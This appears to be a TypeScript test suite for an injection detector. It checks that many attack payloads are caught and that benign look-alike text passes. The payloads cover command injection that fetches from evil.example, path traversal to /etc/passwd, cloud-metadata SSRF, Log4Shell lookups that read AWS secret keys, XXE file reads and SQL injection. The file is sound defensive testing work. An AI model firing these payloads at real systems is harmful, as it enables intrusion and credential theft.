/**
 * Each detector family: attacks in plain, encoded and obfuscated forms are found (through the same decoding the
 * stage uses), benign look-alikes — the everyday text that resembles them — pass at paranoia 1.
 */
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { CLEAN_MAX_ENTRIES, createScanner, scanValue } from './detect.ts';
import { FAMILIES, type Family, type Location } from './types.ts';

const scanner = (paranoia = 1) => createScanner(new Set(FAMILIES), paranoia);
const familyOf = (value: string, location: Location = 'body', paranoia = 1) => scanValue(scanner(paranoia), value, location, { remaining: 1e9 })?.family;

const CASES: Record<Exclude<Family, 'sqli'>, { attacks: string[]; benign: string[]; location?: Location }> = {
  nosql: {
    attacks: ["', $where: '1 == 1'", '{"$gt": ""}', 'user[$ne]=1', 'db.users.find({})', "' && this.password.match(/.*/)//", "';sleep(5000);'", 'x;it=new Date();do{pt=new Date();}while(pt-it<5000);', "'; return true; var x='", '"; while(true){}; //'],
    benign: ["He said 'no'; return the item", "It's fine; return policy is 30 days", 'Price: $5 or less', 'Save $20 now!', 'Sleep (8 hours) is important', 'db. stands for decibel', 'it costs $ne... never mind'],
  },
  cmd: {
    attacks: ['; cat /etc/hosts', "; c'a't /et\"c\"/hos'ts", '| whoami', '&& ls -la', '`id`', '$(curl http://evil.example)', ';getent${IFS}hosts x', '() { :; }; /bin/bash -c id', '<!--#exec cmd="ls" -->', '%3Bwget%20http%3A%2F%2Fx%2Fa.sh',
      ';c${x}at /e${x}tc/hosts', ';who$()ami', 'a;w``hoami', ';/???/??t /???/h??ts', '|/usr/bin/wh?ami', ';{ls,-la}', '; sleep 5 ;', '| timeout 10', '& dir c:\\'],
    benign: ['Lunch at 12; sleep 8 hours', 'what; /???', 'Dear ${customer}; cat and dog', 'We have two pets; cat and dog', 'Tom & Jerry', 'R&D; sales | marketing', 'Sleep well; see you', 'The operating system(s) supported', 'Set of 6; one chipped'],
  },
  traversal: {
    attacks: ['../../etc/passwd', '..\\..\\windows\\win.ini', '%2e%2e%2f%2e%2e%2fboot.ini', '%252e%252e%252f.htaccess', '%c0%ae%c0%ae/%c0%ae%c0%ae/x', '/proc/self/environ', '\\\\host\\c$\\users',
      '..\u2215..\u2215secret', '..%u2215..%u2215secret', '..\u2216..\u2216secret', '..././..././config.php', '\uff0e\uff0e\uff05\uff12\uff46\uff0e\uff0e\uff05\uff12\uff46secret'],
    benign: ['1\u20442 cup of sugar', 'Wait.../what', 'Wait... what?', 'See docs/setup.md', 'Price 1.../2 off', 'etc. and so on', 'C:\\Users\\Public\\Documents'],
  },
  ssrf: {
    attacks: ['http://127.0.0.1/', 'http://2130706433/', 'http://0177.0.0.1/', 'http://0x7f000001/', 'http://127.1/', 'http://[::1]/', 'http://[::ffff:127.0.0.1]/', 'http://[::]/', 'http://169.254.169.254/latest', 'http://metadata.google.internal/', 'http://100.100.100.200/', 'http://[fd00:ec2::254]/', 'gopher://x:70/_', 'dict://x:11211/', 'file:///etc/hostname', 'jar:http://x!/', 'http://10.0.0.5:8080/admin', 'http://localtest.me/', 'http://evil@192.168.1.1/',
      'http://[::127.0.0.1]/', 'http://[::ffff:0:7f00:1]/', 'http://[2002:7f00:1::]/', 'http://[fe80::1%25eth0]/', 'http://evil.example#@127.0.0.1/',
      'http://evil.example?@10.0.0.1/', 'http:127.0.0.1/', 'http:/127.0.0.1/', 'http://kubernetes.default.svc/', 'http://redis.prod.svc.cluster.local:6379/'],
    benign: ['https://example.com/faq#@support', 'https://api.example.com:8443/v1?q=a@b', 'See http:this is not a URL', 'https://example.com/docs', 'Visit http://www.example.org/about', 'file: attached below', 'Call 10.0 or later', 'ftp://ftp.example.com/pub'],
  },
  xss: {
    attacks: ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '"onmouseover="alert(1)', 'javascript:alert(1)', 'java\tscript:alert(1)', 'jav&#x09;ascript:alert(1)', '&lt;iframe src=x&gt;', '%3Cscript%3E', '<a href="javascript&colon;alert(1)">x</a>', 'data:text/html,<b>x</b>', "'-alert(1)//", '(confirm)(1)', '<div style="width:expression(alert(1))">', '\\u003cscript\\u003e', '<<scr\u0000ipt>alert(1)</script>', '\uff05\uff13\uff23script\uff05\uff13\uff25alert(1)'],
    benign: ['Use <b>bold</b> text', 'I <3 this', 'x < y and y > z', 'Set an alert (daily)', 'The ongoing project', 'Java Script tutorial', 'Press <Enter>', 'alert(s) were raised'],
  },
  ssti: {
    attacks: ['{{7*7}}', '${7*7}', '#{7*7}', "{{''.__class__.__mro__}}", '<%= system("id") %>', '{% import os %}', '<#assign ex="freemarker.template.utility.Execute"?new()>', '{{config.items()}}'],
    benign: ['Hello {{first_name}}!', 'Dear ${customer},', 'Hi {{ name }}', 'Template: #{name}', '{% if user %}hi{% endif %}'],
  },
  ldap: {
    attacks: ['*)(uid=*))(|(uid=*', '*(|(objectclass=*))', '(&(uid=admin)(!(&(1=0)(userPassword=q))))', 'userPassword:2.5.13.18:=123', 'admin)(cn=*', 'admin)(&)', 'x)(|)'],
    benign: ['(see above)(and below)', 'f(x)(y)', 'Rating: 5*', 'key := value'],
  },
  xpath: {
    attacks: ["' and count(/*)=1 and '1'='1", "']|//*|//*['", 'name(/*[1])', '/child::node()', "']\t|\t//user/*[contains(*,'", "']\n|//*"],
    benign: ['count (them) all', 'a // comment', 'http://example.com/a/b'],
  },
  crlf: {
    attacks: ['x\r\nSet-Cookie: a=b', '%0d%0aLocation: http://evil', 'a\u560d\u560aSet-Cookie:x'],
    benign: ['a single line', 'tab\tseparated'],
    location: 'header',
  },
  log4shell: {
    attacks: ['${jndi:ldap://x/a}', '${${lower:j}ndi:ldap://x/a}', '${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}', '${${env:NOTHING:-j}ndi:dns://x}', '${env:AWS_SECRET_ACCESS_KEY}', '%24%7Bjndi%3Aldap%3A%2F%2Fx%7D'],
    benign: ['${price}', 'It costs $5 {approx}', 'Use ${HOME} in bash'],
  },
  xxe: {
    attacks: ['<!DOCTYPE x SYSTEM "http://evil/x.dtd"><x/>', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE', '<xi:include href="http://evil"/>', '<!DOCTYPE x\nSYSTEM "http://evil/x.dtd">', '<!DOCTYPE x\tPUBLIC "-//x" "http://evil/x.dtd">'],
    benign: ['<!DOCTYPE html> is the HTML5 doctype', '<?xml version="1.0"?> prolog'],
  },
};

describe('detector families', () => {
  for (const [family, cases] of Object.entries(CASES)) {
    test(`${family}: attacks and their encodings are found`, () => {
      for (const attack of cases.attacks) assert.ok(familyOf(attack, cases.location ?? 'body') !== undefined, `${family} missed: ${JSON.stringify(attack)}`);
    });
    test(`${family}: benign look-alikes pass at paranoia 1`, () => {
      for (const text of cases.benign) assert.equal(familyOf(text, 'body'), undefined, `${family} false positive: ${JSON.stringify(text)}`);
    });
  }

  test('sqli: MySQL dash comments, word arithmetic, INTO OUTFILE and \\N are read as MySQL does', () => {
    for (const attack of ['1 --1 UNION SELECT password FROM users', '1 --1 union select 1,2,3', '1 div 0 union select 1', '5 mod 2 union select null', "' into outfile '/var/www/x.php'--", '1 into dumpfile \'/tmp/x\'', '\\N union select 1,2']) {
      assert.equal(familyOf(attack, 'query'), 'sqli', `sqli missed: ${JSON.stringify(attack)}`);
    }
    for (const text of ['npm install --save-dev typescript', "well--that's odd", 'Pages 10--12 cover it', 'Save the report into outfile.txt']) assert.equal(familyOf(text, 'query'), undefined, `false positive: ${JSON.stringify(text)}`);
  });

  test('sqli: stacked statements the lexicon does not know, delays around placeholders, whole SELECT lists', () => {
    for (const attack of ["'; if not(substring((select @@version),25,1) <> 0) waitfor delay '0:0:2' --", "'; if is_srvrolemember('sysadmin') > 0 waitfor delay '0:0:2' --", "');  foo(1) --", 'sleep(__TIME__)#', 'pg_sleep(__TIME__)--']) {
      assert.equal(familyOf(attack, 'query'), 'sqli', `sqli missed: ${JSON.stringify(attack)}`);
    }
    for (const attack of [' or true', 'select name, tbname, coltype from sysibm.syscolumns;', 'sleep(x)']) assert.equal(familyOf(attack, 'query', 2), 'sqli', `sqli missed at paranoia 2: ${JSON.stringify(attack)}`);
    for (const text of ['Sleep (eight hours) helps', "He said 'no'; then (later) yes", 'Chapter 3; Smith (2004)', 'true or false', 'or maybe later', 'Select red, green or blue']) {
      assert.equal(familyOf(text, 'query'), undefined, `false positive: ${JSON.stringify(text)}`);
    }
    for (const text of ['Sleep (eight hours) helps', "He said 'no'; then (later) yes", 'Chapter 3; Smith (2004)', 'true or false']) assert.equal(familyOf(text, 'query', 2), undefined, `false positive at paranoia 2: ${JSON.stringify(text)}`);
  });

  test('adversarial values cost linear time (no quadratic rescans)', () => {
    const size = 200_000;
    for (const pattern of ['|', '&', '||', '{%', '{{', 'http://', 'http://[', 'http://x@', 'http://a%zz', "'; return ", '$(', '/???/', '<a x="1" ']) {
      const value = pattern.repeat(Math.ceil(size / pattern.length)).slice(0, size);
      const started = performance.now();
      scanValue(scanner(1), value, 'body', { remaining: 1e9 });
      const elapsed = performance.now() - started;
      // Linear scans take tens of milliseconds here; the quadratic ones took seconds to minutes.
      assert.ok(elapsed < 1500, `${JSON.stringify(pattern)} × ${size}: ${elapsed.toFixed(0)} ms`);
    }
  });

  test('a line break is an injection in header-bound values, text in bodies', () => {
    assert.equal(familyOf('line one\nline two', 'header'), 'crlf');
    assert.equal(familyOf('line one\nline two', 'body'), undefined);
    assert.equal(familyOf('Hello,\nBcc: victim@example.com', 'body'), 'crlf');
    assert.equal(familyOf('hello\r\nRCPT TO: <x@evil.example>', 'body'), 'crlf');
  });

  test('NoSQL operator keys are found as keys, plain dollar keys are not', () => {
    assert.equal(familyOf('$where', 'key'), 'nosql');
    assert.equal(familyOf('$ne', 'key'), 'nosql');
    assert.equal(familyOf('$price', 'key'), undefined);
  });

  test('higher paranoia flags more', () => {
    assert.equal(familyOf('<img src="cat.jpg">'), undefined);
    assert.equal(familyOf('<img src="cat.jpg">', 'body', 2), 'xss');
    assert.equal(familyOf('Hello {{first_name}}', 'body', 3), 'ssti');
  });
});

describe('clean verdicts reused per scanner', () => {
  test('a clean value scanned again charges the budget exactly as its first scan did, and stays clean', () => {
    const s = scanner(1);
    const value = 'Mozilla/5.0 (X11; Linux x86_64) %41%42 &amp; caf\\u00e9';
    const first = { remaining: 10_000 };
    assert.equal(scanValue(s, value, 'header', first), undefined);
    assert.equal(s.clean.size, 1);
    const again = { remaining: 10_000 };
    assert.equal(scanValue(s, value, 'header', again), undefined);
    assert.equal(again.remaining, first.remaining, 'same charge from the cache');
    assert.ok(first.remaining < 10_000 - value.length, 'the decoded forms were charged too');
    // A budget the first scan would have overrun is overrun from the cache too (fail closed, not waved through).
    assert.throws(() => scanValue(s, value, 'header', { remaining: 10 }), { name: 'ScanBudgetError' });
  });

  test('a value with a hit is never kept; a clean verdict is per location and per detector set', () => {
    const s = scanner(1);
    for (let i = 0; i < 3; i++) assert.equal(scanValue(s, "' or 1=1 --", 'query', { remaining: 1e9 })?.family, 'sqli');
    assert.equal(s.clean.size, 0);
    // Clean in a body, an injection in a header: the body's verdict does not answer for the header.
    assert.equal(scanValue(s, 'line one\nline two', 'body', { remaining: 1e9 }), undefined);
    assert.equal(scanValue(s, 'line one\nline two', 'header', { remaining: 1e9 })?.family, 'crlf');
    // Clean for the URL families only is not clean for all of them.
    assert.equal(scanValue(s, "1' union select password from users --", 'body', { remaining: 1e9 }, true), undefined);
    assert.equal(scanValue(s, "1' union select password from users --", 'body', { remaining: 1e9 })?.family, 'sqli');
  });

  test('exclusions bypass the cache, long values are not kept, a flood of distinct values stays bounded', () => {
    const s = scanner(1);
    assert.equal(scanValue(s, 'plain words', 'body', { remaining: 1e9 }, false, () => true), undefined);
    assert.equal(s.clean.size, 0);
    assert.equal(scanValue(s, 'a'.repeat(257), 'body', { remaining: 1e9 }), undefined);
    assert.equal(s.clean.size, 0);
    for (let i = 0; i < CLEAN_MAX_ENTRIES * 2 + 10; i++) scanValue(s, `agent-${i}`, 'header', { remaining: 1e9 });
    assert.ok(s.clean.size <= CLEAN_MAX_ENTRIES, `${s.clean.size} entries`);
  });
});
